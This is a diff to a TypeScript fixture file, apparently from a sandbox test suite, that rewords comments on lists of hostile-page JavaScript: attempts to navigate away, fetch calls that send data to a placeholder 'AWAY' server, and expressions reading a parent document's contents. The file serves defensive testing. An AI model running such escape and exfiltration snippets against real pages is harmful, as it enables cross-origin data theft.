@@ -1,6 +1,6 @@
-/** What a hostile page tries. Each is a piece of JavaScript; `AWAY` is the address of a server that counts. */
+/** The attempts of a hostile page, as JavaScript. `AWAY` is the URL of a foreign server that records requests. */
 
-/** Ways to lead the frame, the viewer or a new window elsewhere. Each gets a page of its own. */
+/** Attempts to navigate the frame, the viewer or a new window elsewhere. Each runs in a separate page. */
 export const LEAVE: Readonly<Record<string, string>> = {
   location: `location = 'AWAY/location'`,
   replace: `location.replace('AWAY/replace')`,
@@ -18,7 +18,7 @@ export const LEAVE: Readonly<Record<string, string>> = {
   'viewer, scroll': `location = '/s/'`,
 };
 
-/** Ways to speak to another server without leaving. All in one page. */
+/** Attempts to send data to another server without navigating. All run in one page. */
 export const SPEAK: readonly string[] = [
   `fetch('AWAY/fetch')`,
   `fetch('AWAY/simple', { mode: 'no-cors', keepalive: true })`,
@@ -59,8 +59,8 @@ export const SPEAK: readonly string[] = [
 ];
 
 /**
- * Ways to what is not the page's own: expressions whose value, if they have one, is written into the page. `OTHER` is
- * where another entry's files would be under their own capability, `OWN` where they would be under this page's.
+ * Attempts to access data of others: expressions whose value, if any, is written into the page. `OTHER` is the URL of
+ * another entry's files with their own capability, `OWN` that with the capability of this page.
  */
 export const REACH: Readonly<Record<string, string>> = {
   'the document above': `parent.document.body.innerHTML`,
